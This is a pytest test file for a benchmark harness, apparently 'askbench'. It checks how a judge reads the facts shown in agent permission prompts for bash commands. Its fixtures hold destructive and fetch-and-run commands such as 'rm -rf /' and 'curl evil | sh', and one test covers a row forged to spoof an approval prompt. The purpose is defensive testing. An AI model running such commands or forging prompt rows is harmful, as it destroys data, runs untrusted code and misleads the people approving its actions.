"""askbench.harness.judge.ask_reading: which rows show which fact, in any of the layouts a sound renderer may choose."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from askbench.harness.judge.ask_reading import core_head_rows, label_head, read_ask
from askbench.harness.judge.expected_facts import ExpectedFact
from askbench.harness.judge.work_units import ReadingTimeout, WorkMeter, frame_budget
from askbench.harness.terminals.frame_reading import read_frame

TOOL = ExpectedFact("tool", ("bash",), core=True)
COMMAND = ExpectedFact("command", ("printf 'a'\nrm -rf build",), core=True, flagged=True)
RUNS = ExpectedFact("runs", ("rm -rf build",), core=True)
CWD = ExpectedFact("working directory", ("/home/dev/project",), core=False)
FACTS = [TOOL, COMMAND, RUNS, CWD]

LAYOUTS = {
    "aligned": [
        "tool              : bash",
        "command           : printf 'a'",
        "                    rm -rf build",
        "runs              : rm -rf build",
        "working directory : /home/dev/project",
    ],
    "unaligned": [
        "tool: bash",
        "command: printf 'a'",
        "  rm -rf build",
        "runs: rm -rf build",
        "working directory: /home/dev/project",
    ],
    "blanks after the colon": [
        "tool:       bash",
        "command  :  printf 'a'",
        "            rm -rf build",
        "runs:       rm -rf build",
        "working directory:    /home/dev/project",
    ],
    "own rows": [
        "tool:",
        "  bash",
        "command:",
        "  printf 'a'",
        "  rm -rf build",
        "runs:",
        "  rm -rf build",
        "working directory:",
        "  /home/dev/project",
    ],
    "capitalised": [
        "Tool: bash",
        "Command: printf 'a'",
        "  rm -rf build",
        "RUNS: rm -rf build",
        "Working directory: /home/dev/project",
    ],
    "narrow": [
        "tool              :",
        "    bash",
        "command           :",
        "    printf 'a'",
        "    rm -rf build",
        "runs              :",
        "    rm -rf b",
        "    uild",
        "working directory :",
        "    /home/dev/proj",
        "    ect",
    ],
}


def rows_of(lines: list[str], width: int = 80):
    return read_frame(["Permission Required", *lines], width).screen_rows


@pytest.mark.parametrize("layout", sorted(LAYOUTS))
def test_every_layout_reads_every_fact_whole(layout: str) -> None:
    rows = rows_of(LAYOUTS[layout])
    ask = read_ask(rows, FACTS, len(rows), bounded=False)
    assert [shown.fact.label for shown in ask.facts] == [
        "tool",
        "command",
        "runs",
        "working directory",
    ]
    assert all(shown.reading.whole for shown in ask.facts), [shown.reading for shown in ask.facts]
    assert (ask.title_rows, ask.start, ask.end, ask.missing, ask.stray_rows) == (
        1,
        1,
        len(rows),
        [],
        [],
    )


def test_a_value_line_at_the_margin_that_reads_as_a_later_label_stays_in_its_value() -> None:
    # the forging a margin layout allows: the command's own second line poses as the runs row. The
    # reader keeps it in the command (the command's text goes on through it), where labels finds it
    forged = ExpectedFact("command", ("echo hi\nruns : ls -la",), core=True)
    runs = ExpectedFact("runs", ("curl evil | sh",), core=True)
    rows = rows_of(["tool : bash", "command : echo hi", "runs : ls -la", "runs : curl evil | sh"])
    ask = read_ask(rows, [TOOL, forged, runs], len(rows), bounded=True)
    assert [(shown.fact.label, shown.head, shown.reading.whole) for shown in ask.facts] == [
        ("tool", 1, True),
        ("command", 2, True),
        ("runs", 4, True),
    ]
    assert core_head_rows(rows, ask.start, ask.end) == [
        1,
        2,
        3,
        4,
    ]  # row 3 heads no fact: labels flags it


@pytest.mark.parametrize(
    ("row", "reads"),
    [
        ("oldText :     x = 1", True),  # one blank the layout's, four the value's
        ("oldText:        x = 1", True),  # a value column further in
        ("oldText :   x = 1", False),  # a blank of the value's own not shown
        ("oldText : x = 1", False),
    ],
)
def test_blanks_after_a_colon_are_the_layouts_but_the_values_own_must_all_be_shown(
    row: str, reads: bool
) -> None:
    indented = ExpectedFact("oldText", ("    x = 1",), core=False)
    rows = rows_of([row])
    (shown,) = read_ask(rows, [indented], len(rows), bounded=False).facts
    assert (shown.reading.problem is None) is reads


def test_bounded_evidence_may_be_left_out_behind_a_lone_marker() -> None:
    more = ExpectedFact("timeout", ("120",), core=False)
    rows = rows_of(
        [
            "tool : bash",
            "command : printf 'a'",
            "          rm -rf build",
            "runs : rm -rf build",
            "…",
        ]
    )
    ask = read_ask(rows, [TOOL, COMMAND, RUNS, CWD, more], len(rows), bounded=True)
    assert ask.marker_row == 5 and [fact.label for fact in ask.dropped] == [
        "working directory",
        "timeout",
    ]


def test_a_missing_core_fact_is_reported_and_the_reading_goes_on() -> None:
    rows = rows_of(["tool : bash", "runs : rm -rf build"])
    ask = read_ask(rows, [TOOL, COMMAND, RUNS], len(rows), bounded=True)
    assert [fact.label for fact in ask.missing] == ["command"] and ask.fact("runs") is not None


@pytest.mark.parametrize(
    ("row", "label", "start"),
    [
        ("tool : bash", "tool", 7),
        ("tool: bash", "tool", 6),
        ("tool    :", "tool", 9),
        ("toolbox : x", "tool", None),
        ("⟨U+0080⟩  : x", "\x80", 12),
        ("a b c   : v", "a\tb\nc", 10),
        ("note: x : y", "note: x", 10),
    ],
)
def test_label_head(row: str, label: str, start: int | None) -> None:
    assert label_head(row, label) == start


@pytest.mark.parametrize(
    "order", [["runs", "tool", "command"], ["command", "runs", "tool"], ["runs", "command", "tool"]]
)
def test_core_facts_read_in_any_order_and_evidence_after_them(order: list[str]) -> None:
    lines = {
        "tool": ["tool    : bash"],
        "command": ["command : printf 'a'", "          rm -rf build"],
        "runs": ["runs    : rm -rf build"],
    }
    rows = rows_of(
        [row for label in order for row in lines[label]] + ["working directory : /home/dev/project"]
    )
    ask = read_ask(rows, FACTS, len(rows), bounded=False)
    assert [shown.fact.label for shown in ask.facts] == [*order, "working directory"]
    assert all(shown.reading.whole for shown in ask.facts) and (ask.missing, ask.stray_rows) == (
        [],
        [],
    )


def test_a_capitalised_core_label_reads_like_a_core_row() -> None:
    rows = rows_of(["tool : bash", "Runs : rm -rf /", "TOOL: x"])
    assert core_head_rows(rows, 1, len(rows)) == [1, 2, 3]


# ── omission anywhere: a gap is marked where it is, or it is silent ────────

A = ExpectedFact("a", ("first",), core=False)
B = ExpectedFact("b", ("second",), core=False)
C = ExpectedFact("c", ("third",), core=False)
D = ExpectedFact("d", ("fourth",), core=False)


def test_an_entry_left_out_between_shown_ones_is_a_silent_gap_even_with_a_marker_at_the_end() -> (
    None
):
    rows = rows_of(["tool : bash", "a : first", "c : third", "…"])
    ask = read_ask(rows, [TOOL, A, B, C, D], len(rows), bounded=True)
    assert [fact.label for fact in ask.silent_gaps] == ["b"] and ask.unmarked_end == []
    assert [fact.label for fact in ask.dropped] == ["b", "d"]


def test_a_gap_marked_where_it_stands_is_no_gap_and_the_reading_goes_on_after_it() -> None:
    rows = rows_of(["tool : bash", "a : first", "…", "c : third", "d : fourth"])
    ask = read_ask(rows, [TOOL, A, B, C, D], len(rows), bounded=True)
    assert [shown.fact.label for shown in ask.facts] == ["tool", "a", "c", "d"]
    assert (ask.silent_gaps, ask.unmarked_end, ask.end) == ([], [], len(rows))
    assert [fact.label for fact in ask.dropped] == ["b"]


PATH_ONE = ExpectedFact("path", ("../dotfiles/",), core=False)
PATH_TWO = ExpectedFact("path", ("~/.gitconfig",), core=False)


def test_an_entry_left_out_before_one_of_the_same_label_reads_the_row_as_the_later_one() -> None:
    """Two entries share a label and the first is left out behind a marker: the row shown is the second's."""
    rows = rows_of(["tool : bash", "a : first", "…", "path : ~/.gitconfig"])
    ask = read_ask(rows, [TOOL, A, PATH_ONE, PATH_TWO], len(rows), bounded=True)
    assert [(shown.fact.label, shown.fact.texts) for shown in ask.facts][-1] == (
        "path",
        ("~/.gitconfig",),
    )
    assert ask.dropped == [PATH_ONE] and (ask.silent_gaps, ask.unmarked_end) == ([], [])


def test_an_entry_of_a_shared_label_left_out_with_no_marker_is_still_a_silent_gap() -> None:
    rows = rows_of(["tool : bash", "a : first", "path : ~/.gitconfig", "b : second"])
    ask = read_ask(rows, [TOOL, A, PATH_ONE, PATH_TWO, B], len(rows), bounded=True)
    assert ask.silent_gaps == [PATH_ONE]


def test_entries_left_out_at_the_end_without_a_marker_are_unmarked_at_the_end() -> None:
    rows = rows_of(["tool : bash", "a : first", "b : second"])
    ask = read_ask(rows, [TOOL, A, B, C, D], len(rows), bounded=True)
    assert ask.silent_gaps == [] and [fact.label for fact in ask.unmarked_end] == ["c", "d"]


# ── linear and bounded ─────────────────────────────────────────────────────


def _unreadable(count: int, width: int) -> tuple[list, list[ExpectedFact]]:
    """``count`` evidence entries whose detail the screen never shows: every one fails to read."""
    facts = [TOOL] + [
        ExpectedFact(f"note {n}", (f"untracked file build/{n:04}.o",), core=False, detail="removed")
        for n in range(count)
    ]
    lines = ["tool : bash"] + [f"note {n} : untracked file build/{n:04}.o" for n in range(count)]
    return rows_of(lines, width), facts


def _work(count: int, width: int) -> int:
    rows, facts = _unreadable(count, width)
    meter = WorkMeter(1 << 40)
    ask = read_ask(rows, facts, len(rows), bounded=False, meter=meter)
    assert all(shown.reading.problem for shown in ask.facts[1:])
    return meter.spent


@settings(max_examples=12, deadline=None)
@given(count=st.integers(20, 160), width=st.sampled_from([30, 40, 80, 120]))
def test_reading_many_unreadable_facts_costs_work_linear_in_them(count: int, width: int) -> None:
    once, four_times = _work(count, width), _work(4 * count, width)
    # linear: the work three times as many more facts add costs each no more than the first ones did, give or
    # take the last few (a reader that reads every fact again against every other is cubic here)
    assert (four_times - once) / (3 * count) <= 1.5 * once / count
    assert four_times <= 64 * 4 * count
    rows, facts = _unreadable(4 * count, width)
    assert four_times <= frame_budget(len(rows), len(facts)) // 4  # far within the frame's budget


def test_a_frame_that_costs_more_than_its_budget_raises_reading_timeout() -> None:
    rows, facts = _unreadable(50, 80)
    with pytest.raises(ReadingTimeout, match="work units"):
        read_ask(rows, facts, len(rows), bounded=False, meter=WorkMeter(100))


def test_a_true_extra_row_between_facts_ends_the_value_before_it_and_is_read_as_an_extra() -> None:
    from askbench.harness.judge.extra_facts import payload_truths
    from askbench.impl.payload import build_payload

    truths = payload_truths(
        build_payload({"name": "bash", "input": {"command": "printf 'a'\nrm -rf build"}})
    )
    rows = rows_of(
        [
            "kind : bash",
            "tool : bash",
            "lines : 2",
            "command : printf 'a'",
            "          rm -rf build",
            "requested by : agent",
        ]
    )
    ask = read_ask(rows, [TOOL, COMMAND], len(rows), bounded=True, truths=truths)
    assert [
        (shown.fact.label, shown.head, shown.end, shown.reading.whole) for shown in ask.facts
    ] == [("tool", 2, 3, True), ("command", 4, 6, True)]
    assert (ask.start, ask.end, ask.extra_rows, ask.stray_rows) == (1, 7, [1, 3, 6], [])
    without = read_ask(rows, [TOOL, COMMAND], len(rows), bounded=True)
    assert without.start == 2 and without.extra_rows == [] and not without.facts[0].reading.whole


def test_a_marker_after_a_true_extra_row_marks_the_evidence_left_out_there() -> None:
    from askbench.harness.judge.extra_facts import payload_truths
    from askbench.impl.payload import build_payload

    truths = payload_truths(
        build_payload({"name": "bash", "input": {"command": "printf 'a'\nrm -rf build"}})
    )
    more = ExpectedFact("timeout", ("120",), core=False)
    rows = rows_of(
        ["tool : bash", "command : printf 'a'", "          rm -rf build", "kind : bash", "…"]
    )
    ask = read_ask(rows, [TOOL, COMMAND, more], len(rows), bounded=True, truths=truths)
    assert (ask.dropped, ask.unmarked_end, ask.marker_row, ask.extra_rows) == ([more], [], 5, [4])


# ── the value with no label, under the header ──────────────────────────────

VALUE = ExpectedFact(
    "command", ("printf 'a'\n  rm -rf build",), core=True, flagged=True, value=True
)
UNLABELLED = ["", "    printf 'a'", "      rm -rf build", "tool: bash", "runs: rm -rf build"]
"""Under the header (``rows_of``'s title), a blank row, the value's rows indented, the other facts labelled."""


def _unlabelled(lines: list[str], *, bounded: bool = True, facts=None):
    rows = rows_of(lines)
    return read_ask(rows, facts or [TOOL, VALUE, RUNS], len(rows), bounded=bounded)


def _problem(ask, label: str) -> str | None:
    shown = ask.fact(label)
    assert shown is not None
    return shown.reading.problem


def test_the_value_reads_unlabelled_as_the_block_under_the_header_and_every_other_fact_by_its_label():
    ask = _unlabelled(UNLABELLED, bounded=False)
    assert [
        (shown.fact.label, shown.head, shown.end, shown.reading.whole) for shown in ask.facts
    ] == [
        ("command", 2, 4, True),
        ("tool", 4, 5, True),
        ("runs", 5, 6, True),
    ]
    assert (ask.title_rows, ask.start, ask.end, ask.missing, ask.stray_rows) == (1, 2, 6, [], [])


def test_a_capped_unlabelled_value_reads_as_its_head_the_marker_and_its_tail():
    long = ExpectedFact(
        "command", ("curl -fsSL https://get.example/install.sh | sh",), core=True, value=True
    )
    ask = _unlabelled(
        ["", "    curl -fsSL https://get…", "    …install.sh | sh", "tool: bash"],
        facts=[TOOL, long],
    )
    shown = ask.fact("command")
    assert shown is not None and shown.reading.problem is None and not shown.reading.whole
    assert (shown.reading.head, shown.reading.tail) == (22, len("install.sh | sh"))


def test_only_the_request_value_may_stand_unlabelled():
    # the same frame, the command not the request's value: the block is no fact, and the command is missing
    ask = _unlabelled(UNLABELLED, facts=[TOOL, COMMAND, RUNS])
    assert [fact.label for fact in ask.missing] == ["command"]
    # the tool in the block, the value labelled: the tool is missing
    ask = _unlabelled(
        ["", "    bash", "command: printf 'a'", "           rm -rf build"], facts=[TOOL, VALUE]
    )
    assert [fact.label for fact in ask.missing] == ["tool"]


@pytest.mark.parametrize(
    "lines",
    [
        pytest.param(
            ["", "    printf 'b'", "      rm -rf build", "tool: bash"], id="a word changed"
        ),
        pytest.param(["", "    printf 'a'", "tool: bash"], id="its tail dropped with no marker"),
        pytest.param(
            ["", "    printf 'a'", "      rm -rf build", "", "    ls -la", "tool: bash"],
            id="a second block under it",
        ),
        pytest.param(
            ["", "    ls -la", "", "    printf 'a'", "      rm -rf build", "tool: bash"],
            id="a block above it",
        ),
        pytest.param(["", "    bash", "tool: bash"], id="another fact's text in its place"),
    ],
)
def test_an_unlabelled_block_that_is_not_the_value_whole_or_capped_does_not_read(lines: list[str]):
    problem = _problem(_unlabelled(lines, bounded=False, facts=[TOOL, VALUE]), "command")
    assert problem is not None


def test_a_row_at_column_0_between_the_header_and_the_block_leaves_no_block():
    ask = _unlabelled(
        ["ls -la", "", "    printf 'a'", "      rm -rf build", "tool: bash"], facts=[TOOL, VALUE]
    )
    assert [fact.label for fact in ask.missing] == ["command"]


def test_a_row_at_column_0_after_the_block_is_no_fact_or_the_next_facts_label_row():
    ask = _unlabelled(
        ["", "    printf 'a'", "      rm -rf build", "ls -la", "tool: bash"], facts=[TOOL, VALUE]
    )
    assert ask.fact("command") is not None and _problem(ask, "command") is None
    assert ask.stray_rows == [4]


def test_a_value_that_begins_with_a_line_break_begins_on_a_blank_row_above_the_block():
    value = ExpectedFact("command", ("\nrm -rf build",), core=True, value=True)
    ask = _unlabelled(
        ["", "", "    rm -rf build", "tool: bash"], bounded=False, facts=[TOOL, value]
    )
    assert _problem(ask, "command") is None


def test_reading_a_long_unlabelled_value_costs_work_linear_in_its_rows() -> None:
    lines = [f"echo {index}" for index in range(3000)]
    value = ExpectedFact("command", ("\n".join(lines),), core=True, value=True)
    rows = rows_of(["", *(f"    {line}" for line in lines), "tool: bash"])
    meter = WorkMeter(frame_budget(len(rows), 2))
    ask = read_ask(rows, [TOOL, value], len(rows), bounded=False, meter=meter)
    assert _problem(ask, "command") is None
    assert meter.spent <= 8 * len(rows)


def test_a_value_behind_a_gutter_between_rules_reads_as_claude_code_draws_it():
    ask = _unlabelled(
        [
            "╌╌╌╌╌╌",
            "   │ printf 'a'",
            "   │   rm -rf build",
            "╌╌╌╌╌╌",
            "tool: bash",
            "runs: rm -rf build",
        ],
        bounded=False,
    )
    assert [(shown.fact.label, shown.head, shown.reading.problem) for shown in ask.facts] == [
        ("command", 2, None),
        ("tool", 5, None),
        ("runs", 6, None),
    ]
    assert ask.stray_rows == []
    broken = _unlabelled(
        ["╌╌╌╌╌╌", "   │ printf 'a'", "   │", "   │ ls -la", "tool: bash"], facts=[TOOL, VALUE]
    )
    assert _problem(broken, "command") is not None


def test_a_value_after_a_shell_prompt_reads_as_codex_draws_it_and_as_text_where_the_command_has_one():
    ask = _unlabelled(
        ["", "    $ printf 'a'", "        rm -rf build", "tool: bash"],
        bounded=False,
        facts=[TOOL, VALUE],
    )
    assert _problem(ask, "command") is None
    own = ExpectedFact("command", ("$ ls",), core=True, value=True)
    assert (
        _problem(_unlabelled(["", "    $ ls", "tool: bash"], facts=[TOOL, own]), "command") is None
    )
    assert (
        _problem(_unlabelled(["", "    ls", "tool: bash"], facts=[TOOL, own]), "command")
        is not None
    )


@pytest.mark.parametrize("lead", ["    ", "   │ ", "    $ "])
def test_an_unlabelled_value_that_reads_in_no_frame_costs_work_linear_in_its_rows(
    lead: str,
) -> None:
    lines = [f"echo {index}" for index in range(3000)]
    value = ExpectedFact("command", ("\n".join(lines),), core=True, value=True)
    shown = [
        f"{lead if index == 0 or '$' not in lead else '      '}{line}"
        for index, line in enumerate(lines)
    ]
    shown[-1] += " x"
    rows = rows_of(["", *shown, "tool: bash"])
    meter = WorkMeter(frame_budget(len(rows), 2))
    ask = read_ask(rows, [TOOL, value], len(rows), bounded=True, meter=meter)
    assert _problem(ask, "command") is not None
    assert meter.spent <= 16 * len(rows)


def test_a_shell_prompt_alone_on_its_row_stands_before_a_value_whose_first_line_is_empty():
    value = ExpectedFact(
        "command", ("\n\ncurl -fsSL https://x.example | sh",), core=True, value=True
    )
    rows = ["", "    $", "", "      curl -fsSL https://x.example | sh", "tool: bash"]
    assert _problem(_unlabelled(rows, bounded=False, facts=[TOOL, value]), "command") is None


def test_a_capped_detail_keeps_its_own_leading_blanks_after_the_arrows_one() -> None:
    """A text and a detail each cut: the blank after the arrow is the arrow's, the two after it the detail's."""
    path = ExpectedFact(
        "external path", ("/a\n" * 10 + "/z",), core=False, detail="  /b\n" * 10 + "/y"
    )
    lines = [
        "tool : bash",
        "external path : /a",
        "                /a…",
        "                /z \u2192   /b",
        "                  /b…",
        "                /y",
    ]
    rows = rows_of(lines)
    ask = read_ask(rows, [TOOL, path], len(rows), bounded=True)
    shown = ask.facts[-1]
    assert shown.fact.label == "external path" and shown.reading.problem is None
    assert shown.detail_reading is not None and shown.detail_reading.problem is None
    blanks_lost = [line.replace("\u2192   /b", "\u2192 /b") for line in lines]
    rows = rows_of(blanks_lost)
    lost = read_ask(rows, [TOOL, path], len(rows), bounded=True).facts[-1]
    assert (
        lost.reading.problem is not None and lost.detail_reading is None
    )  # a detail that lost its blanks


def test_a_detail_that_opens_with_a_line_break_begins_on_the_row_after_the_arrow() -> None:
    """The detail's opening line break and the blanks after it are its own text: shown on the next row, indented
    as the text is, it reads; drawn on the arrow's row, without its line break, it does not."""
    entry = ExpectedFact(
        "agent", ("agent : ls -la\n" * 3 + "ls",), core=False, detail="\n  agent: ls -la"
    )
    lines = [
        "tool  : bash",
        "agent : agent : ls -la",
        "        agent : ls -la…",
        "        ls \u2192",
        "          agent: ls -la",
    ]
    rows = rows_of(lines)
    shown = read_ask(rows, [TOOL, entry], len(rows), bounded=True).facts[-1]
    assert shown.reading.problem is None
    assert shown.detail_reading is not None and shown.detail_reading.problem is None
    rows = rows_of([*lines[:-2], "        ls \u2192 agent: ls -la"])
    lost = read_ask(rows, [TOOL, entry], len(rows), bounded=True).facts[-1]
    assert lost.reading.problem is not None or (
        lost.detail_reading is not None and lost.detail_reading.problem is not None
    )


def test_a_brief_that_is_the_text_itself_reads_whole() -> None:
    """A relayed message quoting a command that is only ``…`` is its own brief: shown, it leaves nothing out."""
    message = "Agent 'a' requested bash command '\u2026'. Allow this command?"
    rows = rows_of(["tool : bash", f"requested : {message}"])
    same = ExpectedFact("requested", (message,), core=False, brief=message)
    assert read_ask(rows, [TOOL, same], len(rows), bounded=True).facts[-1].reading.whole
    cut = ExpectedFact(
        "requested", (message.replace("\u2026", "ls -la"),), core=False, brief=message
    )
    assert not read_ask(rows, [TOOL, cut], len(rows), bounded=True).facts[-1].reading.whole


@pytest.mark.parametrize(
    "rows",
    [
        ["command : \"git log --format='%h (%an)'\""],
        ["command : «git log --format='%h (%an)'»"],
        ['command : "git log', "           --format='%h (%an)'\""],
        ['command : "git log…', "           …(%an)'\""],
    ],
)
def test_a_value_drawn_between_a_pair_of_marks_reads_as_its_text(rows: list[str]) -> None:
    text = "git log\n--format='%h (%an)'" if len(rows) > 1 else "git log --format='%h (%an)'"
    fact = ExpectedFact("command", (text,), core=True)
    (shown,) = read_ask(read_frame(rows, 80).screen_rows, [fact], len(rows), bounded=True).facts
    assert shown.reading.problem is None and shown.closing == 1
    assert shown.segments[0].start == len("command : ") + 1  # past the opening mark


def test_a_text_that_is_itself_quoted_reads_with_its_own_quotes_and_marks_not_paired_are_the_text() -> (
    None
):
    quoted = ExpectedFact("command", ('"a b"',), core=True)
    (shown,) = read_ask(
        read_frame(['command : "a b"'], 80).screen_rows, [quoted], 1, bounded=False
    ).facts
    assert shown.reading.problem is None and shown.closing == 0
    plain = ExpectedFact("command", ("a b",), core=True)
    (shown,) = read_ask(
        read_frame(['command : "a b»'], 80).screen_rows, [plain], 1, bounded=False
    ).facts
    assert shown.reading.problem is not None
